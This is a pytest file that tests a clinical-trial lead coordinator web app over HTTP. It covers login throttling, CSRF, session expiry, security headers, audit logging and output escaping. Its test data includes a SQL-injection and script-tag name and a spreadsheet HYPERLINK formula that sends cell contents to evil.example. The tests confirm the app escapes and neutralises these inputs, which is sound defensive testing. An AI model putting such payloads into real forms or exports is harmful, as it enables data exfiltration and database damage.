"""The coordinator inbox over real HTTP: a live Sanic server on loopback, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from itertools import count

import pytest
import requests

from bot.coordinator.app import create_app, csv_safe
from bot.coordinator.auth import LoginThrottle, hash_password, hash_token
from bot.leads.models import utcnow
from bot.settings import Settings
from tests.leads_fixtures import (  # noqa: F401 - fixtures
    LiveServer,
    database_url_fixture,
    eligible_answers,
    lead_kwargs,
    leads_key_fixture,
    store_fixture,
)

PASSWORD = "correct horse battery staple"
EVIL_NAME = "Robert'); DROP TABLE leads;-- <script>alert(1)</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
_names = count()


@pytest.fixture
def settings(database_url, leads_key):
    return Settings(database_url=database_url, leads_key=leads_key, session_secret="s" * 64, session_ttl_minutes=30)


@pytest.fixture
def clock():
    """A controllable clock so session expiry can be tested without waiting."""

    class Clock:
        offset = timedelta(0)

        def __call__(self):
            return utcnow() + self.offset

    return Clock()


@pytest.fixture
def server(settings, store, clock):
    store.add_coordinator("alice", hash_password(PASSWORD))
    store.add_coordinator("bob", hash_password(PASSWORD + "!"))
    app = create_app(settings, store, name=f"coordinator_test_{next(_names)}", clock=clock,
                     throttle=LoginThrottle(max_failures=5))
    with LiveServer(app) as live:
        yield live


def login(server, username="alice", password=PASSWORD) -> requests.Session:
    s = requests.Session()
    r = s.post(f"{server.url}/login", data={"username": username, "password": password}, allow_redirects=False)
    assert r.status_code == 303, r.text
    return s


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


PAGES = ["/", "/leads/1", "/funnel", "/audit"]
API = ["/export.csv", "/export.json"]


def test_every_route_refuses_without_a_session(server, store):
    store.upsert_lead("conv-1", **lead_kwargs(name="Secret Person"))
    anonymous = requests.Session()
    forged = requests.Session()
    forged.cookies.set("coordinator_session", "not-a-real-token")
    for client in (anonymous, forged):
        for path in PAGES:
            r = client.get(server.url + path, allow_redirects=False)
            assert r.status_code == 302 and r.headers["Location"] == "/login", path
            assert "Secret Person" not in r.text
        for path in API:
            r = client.get(server.url + path, allow_redirects=False)
            assert r.status_code == 401, path
            assert "Secret Person" not in r.text and "Li Wei" not in r.text
        r = client.post(server.url + "/leads/1/status", data={"status": "contacted"}, allow_redirects=False)
        assert r.status_code == 401
        r = client.post(server.url + "/logout", allow_redirects=False)
        assert r.status_code == 401
    assert store.get_lead(1)["status"] == "new"
    assert requests.get(server.url + "/login").status_code == 200


def test_wrong_password_and_unknown_user_are_refused(server):
    for username, password in (("alice", "wrong password!!"), ("mallory", PASSWORD), ("", "")):
        s = requests.Session()
        r = s.post(f"{server.url}/login", data={"username": username, "password": password}, allow_redirects=False)
        assert r.status_code == 401
        assert "coordinator_session" not in r.cookies
        assert "Wrong username or password" in r.text
        assert s.get(server.url + "/", allow_redirects=False).status_code == 302


def test_login_failures_are_rate_limited_per_username(server, store):
    for _ in range(5):
        r = requests.post(f"{server.url}/login", data={"username": "alice", "password": "nope nope nope"},
                          allow_redirects=False)
        assert r.status_code == 401
    r = requests.post(f"{server.url}/login", data={"username": "alice", "password": PASSWORD}, allow_redirects=False)
    assert r.status_code == 429
    assert "coordinator_session" not in r.cookies
    # Another account is not locked by someone guessing alice's password.
    login(server, "bob", PASSWORD + "!")
    assert "login_failed" in [e["action"] for e in store.audit_log()]


def test_session_cookie_and_security_headers(server, store):
    r = requests.post(f"{server.url}/login", data={"username": "alice", "password": PASSWORD}, allow_redirects=False)
    cookie = r.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie
    lead_id = store.upsert_lead("conv-h", **lead_kwargs())
    s = login(server)
    page = s.get(f"{server.url}/leads/{lead_id}")
    assert page.status_code == 200
    assert "default-src 'self'" in page.headers["Content-Security-Policy"]
    assert page.headers["X-Frame-Options"] == "DENY"
    assert page.headers["Cache-Control"] == "no-store"
    assert page.headers["X-Content-Type-Options"] == "nosniff"


def test_logged_in_flow_list_lead_page_status_change(server, store):
    older = store.upsert_lead("conv-old", **lead_kwargs(name="Older Lead"))
    answers = eligible_answers(bendamustine_9_months="unsure")
    newer = store.upsert_lead("conv-new", **lead_kwargs(answers, name="Newer Lead", wechat="nl_wechat"))
    s = login(server)

    inbox = s.get(server.url + "/")
    assert inbox.status_code == 200
    assert inbox.text.index("Newer Lead") < inbox.text.index("Older Lead")
    assert "Needs review" in inbox.text and "Likely eligible" in inbox.text

    page = s.get(f"{server.url}/leads/{newer}")
    assert page.status_code == 200
    for expected in ("Newer Lead", "+8613800138000", "li.wei@example.com", "nl_wechat", "conv-new",
                     "Confirmed by the study doctor", "<td>E16</td>", "<td>I3</td>",
                     "a list of all cancer medicines given in the last 9 months", "Unknown"):
        assert expected in page.text, expected
    assert "Older Lead" not in page.text

    token = csrf_of(page.text)
    r = s.post(f"{server.url}/leads/{newer}/status", data={"status": "contacted", "note": "Spoke to mum <b>hi</b>"},
               allow_redirects=False)
    assert r.status_code == 403  # no CSRF token
    r = s.post(f"{server.url}/leads/{newer}/status",
               data={"status": "contacted", "note": "Spoke to mum <b>hi</b>", "csrf_token": token},
               allow_redirects=False)
    assert r.status_code == 303 and r.headers["Location"] == f"/leads/{newer}"
    assert store.get_lead(newer)["status"] == "contacted"
    page = s.get(f"{server.url}/leads/{newer}")
    assert "Spoke to mum &lt;b&gt;hi&lt;/b&gt;" in page.text

    r = s.post(f"{server.url}/leads/{newer}/status", data={"status": "enrolled", "csrf_token": token},
               allow_redirects=False)
    assert r.status_code == 303 and "error=transition" in r.headers["Location"]
    assert "not allowed" in s.get(server.url + r.headers["Location"]).text
    assert store.get_lead(newer)["status"] == "contacted"

    # Cross-site form posts are refused even with a valid cookie and token.
    r = s.post(f"{server.url}/leads/{older}/status", data={"status": "contacted", "csrf_token": token},
               headers={"Origin": "https://evil.example"}, allow_redirects=False)
    assert r.status_code == 403
    assert store.get_lead(older)["status"] == "new"

    trail = [(e["actor"], e["action"], e["lead_id"]) for e in store.audit_log()]
    assert ("alice", "view", newer) in trail
    assert ("alice", "status", newer) in trail
    assert s.get(f"{server.url}/leads/999999").status_code == 404


def test_sql_and_html_in_a_name_are_stored_literally_and_shown_escaped(server, store):
    lead_id = store.upsert_lead("conv-evil", **lead_kwargs(name=EVIL_NAME))
    assert store.get_lead(lead_id)["contact"]["name"] == EVIL_NAME
    s = login(server)
    for path in ("/", f"/leads/{lead_id}"):
        html = s.get(server.url + path).text
        assert "<script>alert(1)</script>" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "Robert&#39;); DROP TABLE leads;--" in html
    assert store.count_leads() == 1


def test_csv_export_is_audited_and_neutralises_formulas(server, store):
    lead_id = store.upsert_lead("conv-csv", **lead_kwargs(name=FORMULA_NAME, time="@SUM(1+1)"))
    s = login(server)
    r = s.get(server.url + "/export.csv")
    assert r.status_code == 200
    assert r.headers["Content-Type"].startswith("text/csv")
    assert r.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["lead_id"] == str(lead_id)
    assert row["name"] == "'" + FORMULA_NAME
    assert row["phone"] == "'+8613800138000"
    assert row["preferred_time"] == "'@SUM(1+1)"
    assert row["I3_verdict"] == "pass" and row["I3_answers"] == "patient_age=7.0"
    for value in r.content.decode("utf-8-sig").replace("\r\n", "\n").split(","):
        assert not value.lstrip('"').startswith(("=", "+", "@")), value
    assert ("alice", "export", lead_id, "csv") in [
        (e["actor"], e["action"], e["lead_id"], e["detail"]) for e in store.audit_log()
    ]


def test_json_export_is_audited(server, store):
    lead_id = store.upsert_lead("conv-json", **lead_kwargs(name="Json Person"))
    s = login(server)
    r = s.get(server.url + "/export.json")
    assert r.status_code == 200 and r.headers["Content-Disposition"].startswith("attachment;")
    data = json.loads(r.content)
    assert data["trial_id"] == "gobroad-cik-ball-2024"
    assert data["leads"][0]["id"] == lead_id
    assert data["leads"][0]["contact"]["name"] == "Json Person"
    assert any(row["id"] == "I6" for row in data["leads"][0]["packet"])
    assert ("alice", "export", lead_id, "json") in [
        (e["actor"], e["action"], e["lead_id"], e["detail"]) for e in store.audit_log()
    ]


def test_empty_export_is_audited_too(server, store):
    s = login(server)
    assert s.get(server.url + "/export.json").json()["leads"] == []
    assert [e["action"] for e in store.audit_log()][0] == "export"


def test_funnel_chart_shows_counts_only(server, store):
    for n in range(3):
        store.record_funnel(f"conv-secret-{n}", "started")
    store.record_funnel("conv-secret-0", "finished")
    store.record_funnel("conv-secret-0", "likely_eligible")
    s = login(server)
    html = s.get(server.url + "/funnel").text
    assert "<svg" in html and "<rect" in html
    assert "Conversations started" in html and "Contacted by coordinator" in html
    assert "conv-secret" not in html
    assert re.search(r"<td>Conversations started</td><td>3</td>", html)


def test_audit_page_lists_views(server, store):
    lead_id = store.upsert_lead("conv-a", **lead_kwargs())
    s = login(server)
    s.get(f"{server.url}/leads/{lead_id}")
    html = s.get(server.url + "/audit").text
    assert "view" in html and f"/leads/{lead_id}" in html


def test_session_expires_after_idle_ttl(server, store, settings, clock):
    s = login(server)
    assert s.get(server.url + "/", allow_redirects=False).status_code == 200
    clock.offset = timedelta(minutes=settings.session_ttl_minutes + 1)
    r = s.get(server.url + "/", allow_redirects=False)
    assert r.status_code == 302 and r.headers["Location"] == "/login"
    assert s.get(server.url + "/export.csv", allow_redirects=False).status_code == 401


def test_session_with_expiry_in_the_past_is_refused(server, store, settings):
    s = login(server)
    token = s.cookies.get("coordinator_session")
    store.touch_session(hash_token(settings.session_secret, token), utcnow() - timedelta(seconds=1))
    assert s.get(server.url + "/audit", allow_redirects=False).status_code == 302


def test_activity_extends_the_session(server, settings, clock):
    s = login(server)
    for minutes in (20, 40, 60):  # each request within the TTL slides the expiry
        clock.offset = timedelta(minutes=minutes)
        assert s.get(server.url + "/", allow_redirects=False).status_code == 200


def test_logout_ends_the_session(server):
    s = login(server)
    token = csrf_of(s.get(server.url + "/").text)
    old_cookie = s.cookies.get("coordinator_session")
    r = s.post(server.url + "/logout", data={"csrf_token": token}, allow_redirects=False)
    assert r.status_code == 303
    replay = requests.Session()
    replay.cookies.set("coordinator_session", old_cookie)
    assert replay.get(server.url + "/", allow_redirects=False).status_code == 302


def test_session_tokens_are_not_stored_in_clear(server, store):
    s = login(server)
    token = s.cookies.get("coordinator_session")
    from sqlalchemy import select

    from bot.leads.models import coordinator_sessions

    with store.engine.connect() as conn:
        stored = conn.execute(select(coordinator_sessions.c.token_hash)).scalars().all()
    assert token not in stored and len(stored) == 1


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("Li Wei", "Li Wei"),
        ("", ""),
        (None, ""),
        (7, 7),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_json_export_neutralises_formulas_in_what_a_person_typed(server, store):
    store.upsert_lead("conv-json-formula", **lead_kwargs(name=FORMULA_NAME, time="@SUM(1+1)"))
    s = login(server)
    contact = s.get(server.url + "/export.json").json()["leads"][0]["contact"]
    assert contact["name"] == "'" + FORMULA_NAME
    assert contact["time"] == "'@SUM(1+1)"
